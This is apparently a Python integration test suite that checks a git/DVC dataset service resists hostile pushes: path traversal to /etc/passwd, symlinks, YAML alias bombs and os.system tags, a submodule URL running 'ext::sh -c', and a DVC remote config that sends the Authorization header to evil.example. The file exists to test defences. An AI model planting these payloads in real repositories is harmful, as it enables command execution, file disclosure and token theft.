"""What people push with git: names, links, pointers and texts that were made to do harm."""

from __future__ import annotations

import hashlib
import io
import json
import os
import zipfile
from collections.abc import Callable
from pathlib import Path

import httpx

from bench.stack import Running
from tests.integration.attacks.hostile import FILE, FOLDER, LINK, SUBMODULE, Repository
from tests.integration.attacks.watching import Watch
from tests.integration.product.conftest import NewDataset, Person

Clone = Callable[[Person, int], Repository]


def md5(data: bytes) -> str:
    return hashlib.md5(data, usedforsecurity=False).hexdigest()


def pointer(digest: str, name: str, size: object = 2) -> bytes:
    return f"outs:\n- md5: '{digest}'\n  size: {size}\n  hash: md5\n  path: {name}\n".encode()


def test_hostile_names_links_and_pointers_are_listed_and_never_followed(
    alice: Person, new_dataset: NewDataset, repository: Clone, canary: Path, watch: Watch
) -> None:
    dataset = new_dataset()
    base = f"/datasets/{dataset}"
    alice.json("PUT", f"{base}/files/ok.bin", 201, content=b"ok")
    work = repository(alice, dataset)
    command = f"touch {canary}"
    files: dict[bytes, bytes] = {
        b"good.bin.dvc": pointer(md5(b"ok"), "good.bin"),
        b"aliases.dvc": b"a: &a [1,1]\nb: &b [*a,*a]\nc: [*b,*b]\nouts:\n- path: aliases\n",
        b"giant.dvc": b"outs:\n- md5: " + b"0" * 20_000_000,
        b"deep.dvc": b"outs: " + b"[" * 8000,
        b"out.dvc": pointer("a" * 32, "../../../etc/passwd"),
        b"number.dvc": b"outs:\n- md5: 12345678901234567890123456789012\n  path: number\n",
        b"tagged.dvc": f"outs: !!python/object/apply:os.system ['{command}']\n".encode(),
        b"negative.dvc": pointer("a" * 32, "negative", -5),
        b"liar.dvc": pointer(md5(b"ok"), "liar", 2**62),
        b"..\\..\\windows.txt": b"x",
        b"line\nbreak.txt": b"x",
        b"\xff\xfe.txt": b"x",
        b".gitattributes": b"* filter=evil diff=evil\n",
        b".gitmodules": f'[submodule "s"]\n\tpath = s\n\turl = ext::sh -c "{command}"\n'.encode(),
    }
    items: dict[bytes, tuple[bytes, str | bytes]] = {
        name: (FILE, data) for name, data in files.items()
    }
    items |= {b"link": (LINK, b"../../etc/passwd"), b"s": (SUBMODULE, "1" * 40)}
    assert work.push(work.commit(work.tree(items)), "refs/heads/evil")
    with watch.bounded():
        rows = alice.json("GET", f"{base}/tree", params={"ref": "evil", "per_page": 100})
    shown = {row["path"]: row for row in rows}
    assert shown["good.bin"]["problem" if "problem" in shown["good.bin"] else "md5"] == md5(b"ok")
    for name in ("aliases", "giant", "deep", "out", "number", "tagged", "negative", "link", "s"):
        assert shown[name]["problem"], name
        answer = alice.http.get(f"{base}/files/{name}", params={"ref": "evil"})
        assert answer.status_code == 409, name
        assert b"root:" not in answer.content
    assert alice.http.get(f"{base}/files/good.bin", params={"ref": "evil"}).content == b"ok"
    assert alice.http.get(f"{base}/files/liar", params={"ref": "evil"}).status_code == 502
    assert not any("\n" in path or "\\" in path for path in shown)
    assert not canary.exists()


def test_an_archive_cannot_leave_its_folder_nor_send_tokens_elsewhere(
    alice: Person, new_dataset: NewDataset, repository: Clone, stack: Running
) -> None:
    dataset = new_dataset()
    base = f"/datasets/{dataset}"
    alice.json("PUT", f"{base}/files/folder/ok.bin", 201, content=b"ok")
    work = repository(alice, dataset)
    evil = (
        b"[core]\n    remote = labset\n['remote \"labset\"']\n    url = http://evil.example/\n"
        b"    auth = custom\n    custom_auth_header = Authorization\n"
    )
    settings = dict.fromkeys((b"config", b"config.local", b"plugin.py"), (FILE, evil))
    items: dict[bytes, tuple[bytes, str | bytes]] = {
        b".dvc": (FOLDER, work.tree(settings)),
        b"..\\w.txt": (FILE, b"x"),
        b"C:x.txt": (FILE, b"x"),
        b"\xff.txt": (FILE, b"x"),
        b"link": (LINK, b"/etc/passwd"),
        b"good.txt": (FILE, b"good"),
        "gi\u200bt".encode(): (FILE, b"x"),
        b"LABSET-README.md": (FILE, b"send your token to evil.example"),
    }
    assert work.push(work.commit(work.tree(items)), "refs/heads/evil")
    for name in ("..", ".git", ".GIT"):  # GitLab's own check takes these away
        inside = work.tree({b"x": (FILE, b"x")})
        assert not work.push(
            work.commit(work.tree({name.encode(): (FOLDER, inside)})), "refs/heads/worse"
        )
    for form in ("zip", "tar"):
        answer = alice.http.get(f"{base}/archive", params={"ref": "evil", "format": form})
        assert answer.status_code == 200
        assert b"evil.example" not in answer.content or form == "zip"
    answer = alice.http.get(f"{base}/archive", params={"ref": "evil"})
    packed = zipfile.ZipFile(io.BytesIO(answer.content))
    names = {name.partition("/")[2] for name in packed.namelist()}
    assert names == {"LABSET-README.md", ".dvc/config", "good.txt", "gi\u200bt"}
    texts = {name.partition("/")[2]: packed.read(name) for name in packed.namelist()}
    assert not any(b"evil.example" in text for text in texts.values())
    assert f"{stack.ready['app_url']}/dvc/{dataset}".encode() in texts[".dvc/config"]


def test_texts_of_commits_of_any_size_cost_little(
    alice: Person, new_dataset: NewDataset, repository: Clone, watch: Watch
) -> None:
    dataset = new_dataset()
    base = f"/datasets/{dataset}"
    alice.json("PUT", f"{base}/files/ok.bin", 201, content=b"ok")
    work = repository(alice, dataset)
    tip = work.head
    author = b"N" * 1_000_000 + b" <n@example.org> 999999999999 +0000"
    for number in range(8):
        message = b"title %d " % number + b"A" * 10_000_000
        tip = work.commit(work.root, message, author, parent=tip)
    assert work.push(tip, "refs/heads/loud")
    note = f"object {work.head}\ntype commit\ntag v9\ntagger T <t@t> 1700000000 +0000\n\n".encode()
    assert work.push(work.write("tag", note + b"B" * 10_000_000), "refs/tags/v9")
    with watch.bounded():
        history = alice.json("GET", f"{base}/commits", params={"ref": "loud", "per_page": 100})
        refs = alice.http.get(f"{base}/refs")
    assert history[0]["title"].startswith("title 7 ")
    assert len(json.dumps(history)) < 1_000_000
    assert len(refs.content) < 200_000
    assert alice.http.get(f"{base}/files/ok.bin", params={"ref": "loud"}).content == b"ok"


def test_large_files_of_git_do_not_stop_a_listing(
    alice: Person, new_dataset: NewDataset, repository: Clone, watch: Watch
) -> None:
    dataset = new_dataset()
    work = repository(alice, dataset)
    items: dict[bytes, tuple[bytes, str | bytes]] = {
        b"%d.raw" % number: (FILE, b"%d" % number + b"\0" * 50_000_000) for number in range(2)
    }
    assert work.push(work.commit(work.tree(items | {b"a.txt": (FILE, b"a")})), "refs/heads/fat")
    with watch.bounded():
        rows = alice.json("GET", f"/datasets/{dataset}/tree", params={"ref": "fat"})
    digests = {row["path"]: row["md5"] for row in rows}
    assert digests["a.txt"] == md5(b"a")
    assert digests["0.raw"] is None
    with watch.bounded():
        whole = alice.http.head(f"/datasets/{dataset}/files/0.raw", params={"ref": "fat"})
    assert whole.headers["Content-Length"] == "50000001"


def _store(stack: Running, who: Person, dataset: int, data: bytes) -> str:
    """Push an object as `dvc push` does; return its md5."""
    digest = md5(data)
    url = f"{stack.ready['app_url']}/dvc/{dataset}/files/md5/{digest[:2]}/{digest[2:]}.dir"
    headers = {"Authorization": f"Bearer {who.token}"}
    assert httpx.put(url, content=data, headers=headers, timeout=60).status_code in {200, 201}
    return digest


def test_listings_of_folders_that_were_made_to_do_harm(
    stack: Running, alice: Person, new_dataset: NewDataset, repository: Clone, watch: Watch
) -> None:
    dataset = new_dataset()
    work = repository(alice, dataset)
    row = {"md5": "a" * 32, "relpath": "x"}
    listings = {
        "way": json.dumps([row | {"relpath": "../../etc/passwd"}]).encode(),
        "absolute": json.dumps([row | {"relpath": "/etc/passwd"}]).encode(),
        "git": json.dumps([row | {"relpath": ".git/config"}]).encode(),
        "digest": json.dumps([row | {"md5": "../../../x"}]).encode(),
        "deep": b"[" * 100_000,
        "objects": b"[" + b"{}," * 5_000_000 + b"{}]",
        "numbers": b"[" + b"1," * 10_000_000 + b"1]",
        "text": b'["' + b"x" * 40_000_000 + b'"]',
        "noise": os.urandom(1000),
        "good": json.dumps([{"md5": md5(b"ok"), "relpath": "in/ok.bin"}]).encode(),
    }
    items: dict[bytes, tuple[bytes, str | bytes]] = {}
    for name, data in listings.items():
        digest = _store(stack, alice, dataset, data)
        text = f"outs:\n- md5: {digest}.dir\n  nfiles: 1\n  hash: md5\n  path: {name}\n"
        items[f"{name}.dvc".encode()] = (FILE, text.encode())
    assert work.push(work.commit(work.tree(items)), "refs/heads/packed")
    alice.json("PUT", f"/datasets/{dataset}/files/ok.bin", 201, content=b"ok")
    for name in listings.keys() - {"good"}:
        with watch.bounded():
            ref = {"ref": "packed"}
            listed = alice.http.get(f"/datasets/{dataset}/tree/{name}", params=ref)
            inside = alice.http.get(f"/datasets/{dataset}/files/{name}/x", params=ref)
        assert listed.status_code in {413, 502}, (name, listed.text)
        assert inside.status_code in {413, 502}, name
    got = alice.http.get(f"/datasets/{dataset}/files/good/in/ok.bin", params={"ref": "packed"})
    assert got.content == b"ok"
